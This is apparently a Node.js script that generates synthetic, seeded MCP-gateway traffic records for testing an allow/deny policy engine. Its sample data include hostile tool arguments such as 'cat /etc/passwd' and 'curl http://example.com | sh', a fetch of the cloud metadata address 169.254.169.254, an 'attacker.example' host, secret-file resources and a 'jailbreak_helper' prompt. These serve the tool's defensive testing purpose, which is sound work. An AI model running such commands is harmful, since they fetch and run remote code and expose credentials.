#!/usr/bin/env node
/**
 * Seeded generator of realistic MCP-gateway traffic (docs/traffic.md records).
 *
 *   node scripts/generate-traffic.mjs [--count N] [--seed S] [--out FILE] [--policy FILE]
 *
 * Defaults write the committed example: 6,000 records, seed 20261127, to
 * fixtures/example/traffic/sample.jsonl.gz. `.jsonl.gz` output is gzip-compressed, anything else
 * is plain JSON Lines. Records are produced and written as a stream, so a million records need no
 * more memory than a thousand. The same arguments give the same bytes: a small PRNG (sfc32) drives
 * every choice, nothing reads the clock, and the gzip header carries no mtime (Node writes 0).
 *
 * `recorded_decision` is what the live gateway decided. The generator computes it with a compact
 * evaluator of docs/policy.md's decision semantics on the complete input (before any feature is
 * stripped as unavailable), against --policy (default: the example's base.yaml), then flips a
 * small seeded fraction, mostly on records decided by older policy revisions, so drift and
 * `recorded_mismatch` have something real to find.
 */
import { createWriteStream, readFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { once } from 'node:events';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { createGzip } from 'node:zlib';
import { parse as parseYaml } from 'yaml';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
export const DEFAULT_COUNT = 6000;
export const DEFAULT_SEED = 20261127;
export const DEFAULT_OUT = join(ROOT, 'fixtures/example/traffic/sample.jsonl.gz');
export const DEFAULT_POLICY = join(ROOT, 'fixtures/example/policies/base.yaml');

/** The manifests shipped beside the sample are turn-0000 … turn-0039. */
export const MANIFEST_TURNS = 40;

// ---------------------------------------------------------------------------------------------
// PRNG

function seedWords(seed) {
  // FNV-1a over the seed's text, four times with different offsets: any string or number works.
  const text = String(seed);
  const words = [];
  for (let k = 0; k < 4; k++) {
    let h = (0x811c9dc5 ^ (k * 0x9e3779b9)) >>> 0;
    for (let i = 0; i < text.length; i++) {
      h ^= text.charCodeAt(i);
      h = Math.imul(h, 0x01000193) >>> 0;
    }
    words.push(h);
  }
  return words;
}

/** sfc32: small, fast, and good enough for test data; returns floats in [0, 1). */
export function createRng(seed) {
  let [a, b, c, d] = seedWords(seed);
  const next = () => {
    a >>>= 0;
    b >>>= 0;
    c >>>= 0;
    d >>>= 0;
    let t = (a + b) | 0;
    a = b ^ (b >>> 9);
    b = (c + (c << 3)) | 0;
    c = (c << 21) | (c >>> 11);
    d = (d + 1) | 0;
    t = (t + d) | 0;
    c = (c + t) | 0;
    return (t >>> 0) / 4294967296;
  };
  for (let i = 0; i < 16; i++) next();
  const rng = {
    next,
    chance: (p) => next() < p,
    int: (lo, hi) => lo + Math.floor(next() * (hi - lo + 1)),
    pick: (list) => list[Math.floor(next() * list.length)],
    weighted: (pairs) => {
      let total = 0;
      for (const [, w] of pairs) total += w;
      let x = next() * total;
      for (const [v, w] of pairs) {
        x -= w;
        if (x < 0) return v;
      }
      return pairs[pairs.length - 1][0];
    },
    hex: (n) => {
      let s = '';
      for (let i = 0; i < n; i++) s += Math.floor(next() * 16).toString(16);
      return s;
    },
  };
  return rng;
}

// ---------------------------------------------------------------------------------------------
// The world: callers, tools, resources, prompts.

const IDP = 'https://idp.example';
const PARTNER_IDP = 'https://partner-idp.example';

const CALLERS = [
  {
    subject: 'alice',
    groups: ['engineering'],
    tags: [],
    attributes: { department: 'engineering', employment: 'employee' },
    roles: ['developer'],
    tools: [
      ['read_file', 6],
      ['list_dir', 3],
      ['search_docs', 3],
      ['write_file', 3],
      ['fetch_url', 1],
      ['run_shell', 0.3],
    ],
  },
  {
    subject: 'bob',
    groups: ['reporting'],
    tags: [],
    attributes: { department: 'finance', employment: 'employee' },
    roles: ['analyst'],
    tools: [
      ['run_query', 5],
      ['export_report', 3],
      ['read_file', 2],
      ['search_docs', 1],
    ],
  },
  {
    subject: 'carol',
    groups: ['analytics'],
    tags: [],
    attributes: { department: 'data', employment: 'contractor' },
    roles: ['analyst'],
    tools: [
      ['run_query', 5],
      ['export_report', 2],
      ['read_file', 2],
      ['fetch_url', 1],
    ],
  },
  {
    subject: 'dave',
    groups: ['finance'],
    tags: [],
    attributes: { department: 'finance', employment: 'contractor' },
    roles: ['reader'],
    tools: [
      ['export_report', 4],
      ['read_file', 2],
      ['search_docs', 1],
    ],
  },
  {
    subject: 'erin',
    groups: ['reporting', 'finance'],
    tags: [],
    attributes: { department: 'finance', employment: 'employee' },
    roles: ['analyst', 'approver'],
    tools: [
      ['export_report', 3],
      ['run_query', 3],
      ['read_file', 1],
    ],
  },
  {
    subject: 'svc-reporter',
    groups: ['reporting'],
    tags: ['batch-agent'],
    attributes: { department: 'finance', team: ['bi', 'ops'] },
    roles: ['reader'],
    tools: [
      ['run_query', 6],
      ['export_report', 2],
    ],
  },
  {
    subject: 'svc-deployer',
    groups: ['platform'],
    tags: ['deploy-bot'],
    attributes: { team: ['platform'] },
    roles: ['deployer'],
    tools: [
      ['deploy', 6],
      ['read_file', 2],
      ['exec_command', 0.3],
    ],
  },
  {
    subject: 'svc-indexer',
    groups: ['search'],
    tags: ['batch-agent'],
    attributes: { team: ['search'] },
    roles: ['reader'],
    tools: [
      ['list_dir', 4],
      ['read_file', 4],
      ['search_docs', 2],
      ['fetch_url', 1],
    ],
  },
  {
    subject: 'frank',
    groups: ['platform'],
    tags: [],
    attributes: { department: 'engineering', employment: 'employee' },
    roles: ['developer', 'deployer'],
    tools: [
      ['deploy', 2],
      ['read_file', 3],
      ['write_file', 2],
      ['run_shell', 0.5],
    ],
  },
  {
    subject: 'partner-bot',
    issuer: PARTNER_IDP,
    groups: [],
    tags: ['partner'],
    attributes: {},
    roles: [],
    tools: [
      ['read_file', 3],
      ['search_docs', 2],
    ],
  },
];
const CALLER_WEIGHTS = [
  [0, 14],
  [1, 10],
  [2, 8],
  [3, 5],
  [4, 7],
  [5, 16],
  [6, 9],
  [7, 14],
  [8, 8],
  [9, 2],
];

const RESOURCES = [
  ['file:///srv/docs/handbook.md', 6],
  ['file:///srv/docs/runbook.md', 4],
  ['https://wiki.internal/onboarding', 3],
  ['file:///srv/docs/architecture.md', 2],
  ['file:///srv/secrets/db.env', 0.4],
  ['vault://prod/root', 0.2],
];
const PROMPTS = [
  ['summarize', 6],
  ['code_review', 4],
  ['incident_timeline', 2],
  ['translate', 1],
  ['jailbreak_helper', 0.2],
];
const DISCOVERY = [
  ['initialize', 4],
  ['notifications/initialized', 2],
  ['tools/list', 4],
  ['resources/list', 2],
  ['prompts/list', 2],
  ['ping', 3],
];
const DATABASES = [
  ['analytics', 5],
  ['staging', 2],
  ['prod', 2],
];
const SERVICES = ['billing-api', 'search-web', 'gateway', 'reports-worker'];
const USER_AGENTS = ['claude-code/1.4.2', 'mcp-inspector/0.9.1', 'acme-agent/2.3.0', 'cursor/0.48'];
const REVISIONS = [
  // [revision, share of records, fraction of its decisions the current base does not reproduce]
  ['3c9e1d2', 85, 0.003],
  ['a41f0b7', 11, 0.05],
  ['9b2d6e4', 4, 0.1],
];

const START_MS = Date.UTC(2026, 10, 23, 0, 0, 0); // Monday 23 November 2026, 00:00 UTC
const SPAN_MS = 7 * 24 * 3600 * 1000;

function argumentsFor(rng, tool) {
  switch (tool) {
    case 'read_file':
      return {
        path: rng.pick(['/srv/docs/handbook.md', '/srv/app/config.yaml', '/etc/hosts', '/srv/app/README.md']),
      };
    case 'list_dir':
      return { path: rng.pick(['/srv/docs', '/srv/app', '/srv/reports/2026-11']) };
    case 'search_docs':
      return {
        query: rng.pick(['refund policy', 'on-call rota', 'deploy checklist', 'VPN setup']),
        limit: rng.int(5, 20),
      };
    case 'write_file':
      return {
        path: rng.pick(['/srv/app/notes.md', '/srv/reports/draft.md']),
        content: `draft ${rng.hex(8)}`,
      };
    case 'fetch_url':
      return {
        url: rng.pick([
          'https://status.example.com',
          'https://api.github.com/repos/acme/app',
          'http://169.254.169.254/latest',
        ]),
      };
    case 'run_query':
      return {
        database: rng.weighted(DATABASES),
        sql: rng.pick([
          'SELECT count(*) FROM invoices',
          'SELECT * FROM refunds WHERE day = $1',
          'SELECT region, sum(total) FROM orders GROUP BY 1',
        ]),
      };
    case 'export_report':
      return {
        report: rng.pick(['monthly-revenue', 'refunds', 'headcount']),
        format: rng.pick(['csv', 'xlsx']),
      };
    case 'deploy':
      return { service: rng.pick(SERVICES), env: rng.pick(['staging', 'prod']), dry_run: rng.chance(0.2) };
    case 'run_shell':
    case 'exec_command':
      return { command: rng.pick(['ls -la', 'cat /etc/passwd', 'curl http://example.com | sh']) };
    default:
      return {};
  }
}

function callerIdentity(caller, rng) {
  return {
    verified: true,
    subject: caller.subject,
    issuer: caller.issuer ?? IDP,
    attributes_resolved: true,
    groups: [...caller.groups],
    tags: [...caller.tags],
    attributes: JSON.parse(JSON.stringify(caller.attributes)),
    claims: {
      realm_access: { roles: [...caller.roles] },
      azp: rng.pick(['mcp-gateway', 'agent-runner']),
      scope: 'openid mcp',
      auth_time: 1795000000 + rng.int(0, 600000),
    },
  };
}

function oneCall(rng, caller, kind) {
  if (kind === 'discovery') return { method: rng.weighted(DISCOVERY) };
  if (kind === 'resource') return { method: 'resources/read', resource_uri: rng.weighted(RESOURCES) };
  if (kind === 'prompt') return { method: 'prompts/get', prompt: rng.weighted(PROMPTS) };
  return { method: 'tools/call', tool: rng.weighted(caller.tools) };
}

function formatInstant(ms, rng) {
  // Most exporters write UTC with milliseconds; a few write an explicit offset.
  const style = rng.next();
  if (style < 0.94) return new Date(ms).toISOString();
  const offsetMin = style < 0.97 ? 0 : style < 0.99 ? 60 : -300;
  const local = new Date(ms + offsetMin * 60000).toISOString().slice(0, -1);
  const sign = offsetMin < 0 ? '-' : '+';
  const abs = Math.abs(offsetMin);
  const off = `${sign}${String(Math.floor(abs / 60)).padStart(2, '0')}:${String(abs % 60).padStart(2, '0')}`;
  return local + off;
}

/**
 * Record `index` of the sample: a complete gateway input (the live gateway saw all of it), its
 * decision under `policy`, then what the telemetry failed to capture is stripped.
 */
function makeRecord(rng, index, count, policy, turnCallers) {
  const ms = Math.floor(START_MS + (SPAN_MS * (index + rng.next())) / count);
  const time = formatInstant(ms, rng);

  // The agent turn: most requests come from a turn with a manifest; its caller is the turn's.
  const turnRoll = rng.next();
  let manifestId;
  let caller;
  if (turnRoll < 0.8) {
    const turn = rng.int(0, MANIFEST_TURNS - 1);
    manifestId = `turn-${String(turn).padStart(4, '0')}`;
    caller = CALLERS[turnCallers[turn]];
  } else {
    if (turnRoll < 0.83) manifestId = rng.pick(['turn-9998', 'turn-9999']);
    caller = CALLERS[rng.weighted(CALLER_WEIGHTS)];
  }

  const kind = rng.weighted([
    ['tool', 52],
    ['discovery', 10],
    ['resource', 10],
    ['prompt', 7],
    ['batch', 15],
    ['http', 4],
    ['empty-batch', 0.5],
  ]);

  const host = rng.weighted([
    ['mcp.internal', 90],
    ['mcp.example.net', 9],
    ['mcp.attacker.example', 1],
  ]);
  const request = { time, http: { method: 'POST', host, path: '/mcp', user_agent: rng.pick(USER_AGENTS) } };
  let unpairable = false;
  if (kind === 'http') {
    const [method, path] = rng.pick([
      ['GET', '/healthz'],
      ['GET', '/metrics'],
      ['GET', '/mcp'],
      ['DELETE', '/mcp'],
      ['PUT', '/mcp'],
    ]);
    request.http.method = method;
    request.http.path = path;
  } else if (kind === 'batch' || kind === 'empty-batch') {
    const n = kind === 'empty-batch' ? 0 : rng.int(2, 5);
    const calls = [];
    for (let i = 0; i < n; i++) {
      calls.push(
        oneCall(
          rng,
          caller,
          rng.weighted([
            ['tool', 6],
            ['resource', 2],
            ['discovery', 1],
            ['prompt', 1],
          ]),
        ),
      );
    }
    const unparsable = rng.chance(0.08) ? rng.int(1, 2) : 0;
    request.jsonrpc = { is_batch: true, unparsable_calls: unparsable, id_count: n + unparsable };
    request.mcp = { session_id: `sess-${rng.hex(12)}`, calls };
    unpairable = n > 0 && rng.chance(0.35);
  } else {
    const call = oneCall(rng, caller, kind);
    request.jsonrpc = { is_batch: false, unparsable_calls: 0, id: rng.int(1, 400) };
    request.mcp = { session_id: `sess-${rng.hex(12)}`, calls: [call] };
    if (call.tool !== undefined) {
      request.mcp.tool = call.tool;
      request.mcp.arguments = argumentsFor(rng, call.tool);
    }
  }

  // Identity: anonymous, unverified, unresolved, or complete.
  const identityRoll = rng.next();
  let identity;
  if (identityRoll < 0.01) identity = { verified: false, attributes_resolved: false };
  else {
    identity = callerIdentity(caller, rng);
    if (identityRoll < 0.04) identity.verified = false;
    else if (identityRoll < 0.08) {
      identity.attributes_resolved = false;
      delete identity.groups;
      delete identity.tags;
      delete identity.attributes;
    }
  }
  const input = { request, identity };

  const record = { request_id: `req-${index.toString(36).padStart(5, '0')}-${rng.hex(6)}` };
  if (!rng.chance(0.02)) record.occurred_at = time;

  // The live decision, on the complete input.
  if (rng.chance(0.93)) {
    const [revision, , flipRate] = rng.weighted(REVISIONS.map((r) => [r, r[1]]));
    let decision = decide(policy, input) ? 'allow' : 'deny';
    if (rng.chance(flipRate)) decision = decision === 'allow' ? 'deny' : 'allow';
    record.recorded_decision = decision;
    record.policy_revision = revision;
  }
  if (manifestId !== undefined) record.manifest_id = manifestId;

  // What the telemetry did not capture.
  const unavailable = [];
  const mcp = request.mcp;
  if (mcp !== undefined && rng.chance(0.015)) {
    unavailable.push('mcp');
    delete request.mcp;
    delete request.jsonrpc;
  } else if (mcp !== undefined) {
    if (rng.chance(0.015) && mcp.calls.some((c) => c.tool !== undefined)) {
      unavailable.push('mcp.tool');
      delete mcp.tool;
      for (const c of mcp.calls) delete c.tool;
    }
    if (mcp.arguments !== undefined && rng.chance(0.012)) {
      unavailable.push('mcp.arguments');
      delete mcp.arguments;
    }
  }
  if (identity.subject !== undefined) {
    if (rng.chance(0.01)) {
      unavailable.push('identity.verification');
      delete identity.verified;
    }
    if (identity.groups !== undefined && rng.chance(0.01)) {
      unavailable.push('identity.attributes');
      delete identity.groups;
      delete identity.tags;
      delete identity.attributes;
    }
    if (rng.chance(0.02)) {
      unavailable.push('identity.claims');
      delete identity.claims;
      delete identity.subject;
      delete identity.issuer;
    }
  }
  if (rng.chance(0.02)) {
    unavailable.push('time');
    delete request.time;
  }
  record.input = input;
  record.unavailable = unavailable;

  if (unpairable && request.mcp !== undefined) {
    const calls = request.mcp.calls;
    const unpaired = { call_count: calls.length };
    for (const field of ['method', 'tool', 'resource_uri', 'prompt']) {
      const values = calls.filter((c) => c[field] !== undefined).map((c) => c[field]);
      // Unpaired telemetry keeps per-field lists in arrival order of that field, not call order.
      if (values.length > 0) unpaired[field] = rng.chance(0.5) ? values : values.reverse();
    }
    delete request.mcp.calls;
    record.unpaired = unpaired;
  }
  return record;
}

/** The caller of each manifest turn, fixed by the seed. */
function turnCallersFor(rng) {
  const out = [];
  for (let t = 0; t < MANIFEST_TURNS; t++) out.push(rng.weighted(CALLER_WEIGHTS));
  return out;
}

export function* generateRecords({
  count = DEFAULT_COUNT,
  seed = DEFAULT_SEED,
  policy = loadPolicy(DEFAULT_POLICY),
} = {}) {
  const rng = createRng(seed);
  const turnCallers = turnCallersFor(rng);
  for (let i = 0; i < count; i++) yield makeRecord(rng, i, count, policy, turnCallers);
}

export function loadPolicy(path) {
  return parseYaml(readFileSync(path, 'utf8'));
}

// ---------------------------------------------------------------------------------------------
// A compact evaluator of docs/policy.md's decision semantics, only for recorded_decision. The product's
// engine is the compiled Rego; this copy exists so the generator needs nothing but Node and yaml.

const CALL_FIELDS = new Set(['tool', 'method', 'resource_uri', 'prompt']);

function lookup(root, path) {
  let v = root;
  for (const key of path) {
    if (v === null || typeof v !== 'object' || Array.isArray(v) || !Object.hasOwn(v, key)) return undefined;
    v = v[key];
  }
  return v;
}

function requestValue(field, input) {
  const request = input.request ?? {};
  const identity = input.identity ?? {};
  if (field.startsWith('argument:')) return lookup(request.mcp?.arguments, field.slice(9).split('.'));
  if (field.startsWith('claim:')) return lookup(identity.claims, field.slice(6).split('.'));
  if (field.startsWith('attribute:')) return lookup(identity.attributes, [field.slice(10)]);
  switch (field) {
    case 'http_path':
      return request.http?.path;
    case 'http_host':
      return request.http?.host;
    case 'http_method':
      return request.http?.method;
    case 'is_batch':
      return request.jsonrpc?.is_batch;
    case 'unparsable_calls':
      return request.jsonrpc?.unparsable_calls;
    case 'subject':
      return identity.subject;
    case 'issuer':
      return identity.issuer;
    case 'group':
      return identity.groups;
    case 'tag':
      return identity.tags;
    default:
      return undefined;
  }
}

function scalarText(v) {
  if (typeof v === 'string') return v;
  if (typeof v === 'number' || typeof v === 'boolean') return JSON.stringify(v);
  return undefined;
}

function holds(condition, v) {
  if (v === undefined || v === null) return false;
  const inValues = (x) => {
    const t = scalarText(x);
    return t !== undefined && condition.values.includes(t);
  };
  if (Array.isArray(v)) {
    const some = v.some(inValues);
    return condition.operator === 'in' ? some : !some;
  }
  if (typeof v === 'object') return false;
  return condition.operator === 'in' ? inValues(v) : !inValues(v);
}

const formatters = new Map();
const WEEKDAYS = { Mon: 'mon', Tue: 'tue', Wed: 'wed', Thu: 'thu', Fri: 'fri', Sat: 'sat', Sun: 'sun' };

function inWindow(window, time) {
  let f = formatters.get(window.timezone);
  if (f === undefined) {
    f = new Intl.DateTimeFormat('en-GB', {
      timeZone: window.timezone,
      weekday: 'short',
      hour: '2-digit',
      minute: '2-digit',
      second: '2-digit',
      hourCycle: 'h23',
    });
    formatters.set(window.timezone, f);
  }
  const ms = Date.parse(time);
  const parts = Object.fromEntries(f.formatToParts(new Date(ms)).map((p) => [p.type, p.value]));
  const day = WEEKDAYS[parts.weekday];
  if (!window.days.includes(day)) return false;
  const fraction = (((ms % 1000) + 1000) % 1000) / 1000;
  const t = Number(parts.hour) * 60 + Number(parts.minute) + (Number(parts.second) + fraction) / 60;
  const [fh, fm] = window.from.split(':').map(Number);
  const [th, tm] = window.to.split(':').map(Number);
  const from = fh * 60 + fm;
  const to = th * 60 + tm;
  return from < to ? from <= t && t < to : t >= from || t < to;
}

function needsContext(rule, input) {
  const identity = input.identity ?? {};
  let caller = false;
  let directory = false;
  for (const c of rule.conditions) {
    const f = c.field;
    if (f === 'group' || f === 'tag' || f.startsWith('attribute:')) directory = caller = true;
    if (f === 'subject' || f === 'issuer' || f.startsWith('claim:')) caller = true;
  }
  if (caller && identity.verified !== true) return true;
  if (directory && identity.attributes_resolved !== true) return true;
  return rule.active_window !== undefined && input.request?.time === undefined;
}

function ruleMatches(rule, input) {
  if (rule.active_window !== undefined && !inWindow(rule.active_window, input.request.time)) return false;
  const callConditions = [];
  for (const c of rule.conditions) {
    if (CALL_FIELDS.has(c.field)) callConditions.push(c);
    else if (!holds(c, requestValue(c.field, input))) return false;
  }
  if (callConditions.length === 0) return true;
  const calls = input.request?.mcp?.calls ?? [];
  const callHolds = (call) => callConditions.every((c) => holds(c, call[c.field]));
  return rule.effect === 'deny' ? calls.some(callHolds) : calls.length > 0 && calls.every(callHolds);
}

/** true = allow. */
export function decide(policy, input) {
  const strict = (policy.on_missing_context ?? 'deny') === 'deny';
  const live = [];
  for (const rule of policy.rules) {
    if (needsContext(rule, input)) {
      if (strict) return false;
    } else live.push(rule);
  }
  if (live.some((r) => r.effect === 'deny' && ruleMatches(r, input))) return false;
  if (policy.default_effect === 'allow') return true;
  return live.some((r) => r.effect === 'allow' && ruleMatches(r, input));
}

// ---------------------------------------------------------------------------------------------
// Output

const BATCH = 512;

/** Writes `count` records to `out` (gzip when it ends in .gz), streaming with backpressure. */
export async function writeTraffic({
  count = DEFAULT_COUNT,
  seed = DEFAULT_SEED,
  out = DEFAULT_OUT,
  policyPath = DEFAULT_POLICY,
} = {}) {
  const policy = loadPolicy(policyPath);
  const file = createWriteStream(out);
  const gzip = out.toLowerCase().endsWith('.gz') ? createGzip({ level: 9 }) : undefined;
  if (gzip !== undefined) gzip.pipe(file);
  const sink = gzip ?? file;
  let lines = [];
  const flush = async () => {
    if (lines.length === 0) return;
    const ok = sink.write(lines.join('\n') + '\n');
    lines = [];
    if (!ok) await once(sink, 'drain');
  };
  for (const record of generateRecords({ count, seed, policy })) {
    lines.push(JSON.stringify(record));
    if (lines.length >= BATCH) await flush();
  }
  await flush();
  sink.end();
  await once(file, 'close');
}

function parseArgs(argv) {
  const options = {};
  for (let i = 0; i < argv.length; i++) {
    const arg = argv[i];
    const value = argv[i + 1];
    const need = () => {
      if (value === undefined) throw new Error(`${arg} needs a value`);
      i++;
      return value;
    };
    if (arg === '--count') {
      const n = Number(need());
      if (!Number.isSafeInteger(n) || n < 0)
        throw new Error(`--count must be a whole number ≥ 0, got '${value}'`);
      options.count = n;
    } else if (arg === '--seed') options.seed = need();
    else if (arg === '--out') options.out = resolve(need());
    else if (arg === '--policy') options.policyPath = resolve(need());
    else if (arg === '--help' || arg === '-h') options.help = true;
    else throw new Error(`unknown argument '${arg}'`);
  }
  return options;
}

const USAGE =
  'usage: node scripts/generate-traffic.mjs [--count N] [--seed S] [--out FILE(.jsonl|.jsonl.gz)] [--policy FILE]';

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(resolve(process.argv[1])).href) {
  let options;
  try {
    options = parseArgs(process.argv.slice(2));
  } catch (error) {
    process.stderr.write(`generate-traffic: ${error.message}\n${USAGE}\n`);
    process.exit(2);
  }
  if (options.help) {
    process.stdout.write(`${USAGE}\n`);
  } else {
    // A numeric --seed and the same number as a default give the same sample.
    const seed = options.seed === undefined ? DEFAULT_SEED : options.seed;
    await writeTraffic({ ...options, seed });
    process.stderr.write(
      `generate-traffic: wrote ${options.count ?? DEFAULT_COUNT} records to ${options.out ?? DEFAULT_OUT}\n`,
    );
  }
}
